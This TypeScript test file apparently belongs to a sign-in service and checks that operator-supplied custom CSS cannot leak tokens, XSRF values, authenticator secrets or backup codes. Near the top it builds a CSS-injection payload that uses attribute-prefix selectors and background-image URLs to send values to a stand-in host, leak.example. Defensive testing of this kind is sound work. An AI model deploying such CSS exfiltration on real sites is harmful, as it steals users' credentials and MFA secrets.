import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { authorization } from '../support/authorization.ts';
import { openBrowser, type Visitor } from '../support/browser.ts';
import { type Operator, operate } from '../support/operator.ts';
import { goodPassword, register } from '../support/pages.ts';
import { startServer, type TestServer } from '../support/server.ts';
import { totpCode } from '../support/totp-app.ts';

/** Sends to another host that an attribute begins with a character, for every character. */
const leak = (selector: string, attribute: string): string =>
  [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_:/.']
    .map(
      (first) =>
        `:root:has(${selector}[${attribute}^="${first}"]) main { background-image: url("https://leak.example/${attribute}/${encodeURIComponent(first)}") }`,
    )
    .join('\n');
const attack = [
  leak('input[name=one_time_token]', 'value'),
  leak('input[name=token]', 'value'),
  leak('input[name=xsrf]', 'value'),
  leak('a[download]', 'href'),
  ':root:has(.qr) body { background-image: url("https://leak.example/picture") }',
  ':root:has(.secret) footer { background-image: url("https://leak.example/secret") }',
  ':root:has(input[name=app_id]) .heading { background-image: url("https://leak.example/page") }',
].join('\n');

describe('Malicious operator CSS', () => {
  let server: TestServer;
  let operator: Operator;
  let visitor: Visitor;
  let leaked: string[];
  before(async () => {
    server = await startServer();
    operator = await operate(server);
    await operator.call('PATCH', '/api/sign-in-exp', {
      customCss: attack,
      mfa: { factors: ['Totp', 'BackupCode'], policy: 'Mandatory' },
    });
  });
  after(() => server?.close());
  afterEach(() => visitor?.close());

  const open = async (extra: Record<string, string> = {}): Promise<Page> => {
    visitor = await openBrowser();
    leaked = [];
    await visitor.page.route('https://leak.example/**', (route) => {
      leaked.push(route.request().url());
      return route.fulfill({ status: 204 });
    });
    // Every page but that of a link gives away that it is one.
    const given = extra.one_time_token ? undefined : visitor.page.waitForResponse('https://leak.example/page');
    await visitor.page.goto(
      authorization({ endpoint: server.url, clientId: 'demo-app', redirectUri: `${server.url}/demo-app`, extra }).url,
    );
    await given;
    await visitor.page.waitForLoadState('networkidle');
    return visitor.page;
  };

  it('applies to the sign-in page, where it learns nothing secret', async () => {
    await open();
    assert.deepEqual(leaked, ['https://leak.example/page']);
  });

  // security: escaping
  it('cannot read the token of a link', async () => {
    const email = 'ana@example.com';
    const { token } = await operator.call<{ token: string }>('POST', '/api/one-time-tokens', { email });
    const page = await open({ one_time_token: token, login_hint: email });
    assert.equal(await page.locator('input[name=one_time_token]').inputValue(), token);
    assert.deepEqual(leaked, []);
  });

  // security: escaping
  it('cannot read the secret of an authenticator or a backup code', async () => {
    const page = await open({ first_screen: 'register' });
    leaked = [];
    await register(page, { username: 'ana_css', password: goodPassword });
    await page.getByRole('heading', { name: 'Connect an authenticator app' }).waitFor();
    await page.waitForLoadState('networkidle');
    assert.deepEqual(leaked, []);
    const secret = ((await page.locator('#secret').textContent()) ?? '').replaceAll(/\s/g, '');
    await page.getByLabel('Enter the code from the app').fill(totpCode(secret, Date.now()));
    await page.getByRole('button', { name: 'Connect the app' }).click();
    await page.getByRole('heading', { name: 'Save these codes' }).waitFor();
    await page.waitForLoadState('networkidle');
    assert.deepEqual(leaked, []);
  });

  it('cannot read the value that binds a sign-out to its page', async () => {
    const page = await open();
    leaked = [];
    await page.goto(`${server.url}/oidc/session/end`);
    await page.waitForLoadState('networkidle');
    assert.deepEqual(leaked, []);
  });
});
